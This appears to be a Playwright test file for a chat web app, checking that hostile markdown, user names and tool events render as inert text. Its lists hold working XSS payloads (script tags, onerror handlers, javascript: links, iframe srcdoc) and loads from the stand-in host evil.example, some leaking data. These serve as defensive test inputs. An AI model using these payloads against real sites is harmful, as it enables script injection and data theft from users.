"""What models, tools and other people write runs no script and reaches nothing."""

from __future__ import annotations

import uuid
from typing import Any

import pytest
from playwright.async_api import Request, expect

from tests.browser.people import People
from tests.browser.window import Window
from tests.support.upstream import Upstream, tokens

# Each would set `window.hacked`, open a dialog, or fetch from `evil.example`.
MARKDOWN = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 2'>",
    "<svg onload='window.hacked = 3'><script>window.hacked = 3</script></svg>",
    "[click](javascript:window.hacked=4)",
    "[click](JaVaScRiPt&#58;window.hacked=4)",
    "<a href='data:text/html,<script>alert(5)</script>'>click</a>",
    "<iframe srcdoc='<script>parent.hacked = 6</script>'></iframe>",
    "<iframe src='javascript:parent.hacked=6'></iframe>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x&gt;'>",
    "<details open ontoggle='window.hacked = 8'><summary>x</summary></details>",
    "<form action='https://evil.example'><button>Sign in</button></form>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/9)'>over</div>",
    "<style>@import 'https://evil.example/10.css'; body { display: none }</style>",
    "![cat](https://evil.example/11.png?secret)",
    "<img src='https://evil.example/12.png'>",
    "<base href='https://evil.example/'><link rel=stylesheet href='/13.css'>",
    "<object data='https://evil.example/14'></object><embed src='https://evil.example/14'>",
    "<input autofocus onfocus='window.hacked = 15'><video src=x onerror='window.hacked=15'>",
    "```html\n<script>window.hacked = 16</script>\n```",
    "```<img/src=x/onerror=window.hacked=17>\ncode\n```",
    "`<img src=x onerror=window.hacked=18>`",
    "| <img src=x onerror=window.hacked=19> |\n|---|\n| <script>window.hacked=19</script> |",
    "<p id=app class=shell>clobber</p><a id=location name=location>x</a>",
]
HTML_NAME = "<img src=x onerror='window.hacked=30'><script>window.hacked=31</script>"


def _watch(window: Window) -> list[str]:
    """Requests to other places than the server."""
    asked: list[str] = []
    own = window.page.url.split("/", 3)[2]

    def heard(request: Request) -> None:
        ours = request.url.startswith((f"http://{own}/", f"ws://{own}/", "data:", "blob:"))
        if not ours:
            asked.append(request.url)

    window.page.on("request", heard)
    return asked


async def _unharmed(window: Window, asked: list[str]) -> None:
    page = window.page
    links = page.locator("main a")
    for index in range(await links.count()):
        href = await links.nth(index).get_attribute("href") or ""
        assert not href.lower().replace("&#58;", ":").startswith(("javascript", "data:text"))
    assert await page.evaluate("() => window.hacked") is None
    assert asked == []
    assert await page.evaluate("() => document.querySelectorAll('main iframe').length") == 0
    assert await page.evaluate("() => document.querySelectorAll('main [style*=fixed]').length") == 0
    # What the browser refused to run is no harm done, and is not a fault of the page.
    window.problems[:] = [p for p in window.problems if "Content Security Policy" not in p]


async def test_hostile_markdown_runs_nothing_and_asks_nobody(
    people: People, upstream: Upstream
) -> None:
    text = "\n\n".join([*MARKDOWN, "The end."])
    upstream.script(tokens(*(text[at : at + 7] for at in range(0, len(text), 7))))
    ann = await people.join()
    asked = _watch(ann)
    await ann.ask("Be nasty")
    await ann.answered("The end.")
    await _unharmed(ann, asked)
    await ann.page.reload()
    await ann.answered("The end.")
    await _unharmed(ann, asked)
    assert await ann.page.get_by_role("link", name="cat").get_attribute("rel") is not None


async def test_html_in_names_titles_and_questions_is_text(people: People) -> None:
    mallory = await people.join(HTML_NAME)
    asked = _watch(mallory)
    await mallory.ask(HTML_NAME)
    await mallory.answered("")
    await expect(mallory.page.get_by_role("article", name="Question")).to_have_text(HTML_NAME)
    await expect(mallory.page.locator("footer strong")).to_have_text(HTML_NAME)
    await _unharmed(mallory, asked)


def _events(value: str) -> list[dict[str, Any]]:
    source = {"source": {"name": value, "url": "javascript:window.hacked=41"}, "document": [value]}
    return [
        {"type": "status", "data": {"description": value, "done": True}},
        {"type": "source", "data": source},
        {"type": "files", "data": {"files": [{"name": value, "url": "javascript:hacked=42"}]}},
        {"type": "files", "data": {"files": [{"type": "image", "url": "https://evil.example/43"}]}},
        {"type": "files", "data": {"files": [value, None, 7]}},
        {"type": "source", "data": {"source": {}, "document": [{}, None], "metadata": [None]}},
        {"type": "chat:title", "data": value},
        {"type": "chat:tags", "data": [value]},
        {"type": "chat:tags", "data": {"not": "a list"}},
        {"type": "chat:message:follow_ups", "data": {"follow_ups": [value]}},
        {"type": "notification", "data": {"type": value, "content": value}},
        {"type": "chat:message:error", "data": {"error": {"content": value, "code": "x"}}},
        {"type": "chat:message:error", "data": {"error": value}},
        {"type": "chat:message:error", "data": {"error": None}},
        {"type": "chat:list", "data": None},
        {"type": "chat:tasks:cancel", "data": value},
    ]


@pytest.mark.settings(echo_delay_ms=1)
async def test_hostile_events_of_tools_are_text_and_break_nothing(
    people: People,
) -> None:
    ann = await people.join()
    await ann.ask("Hello")
    await ann.answered("Hello")
    asked = _watch(ann)
    chat, message = await ann.open_chat()
    for event in _events(HTML_NAME):
        assert await ann.http("POST", f"{chat}/messages/{message['id']}/event", event) is True
    await _unharmed(ann, asked)
    # It still works.
    await ann.ask(f"Still here {uuid.uuid4().hex}")
    await ann.answered("Still here")
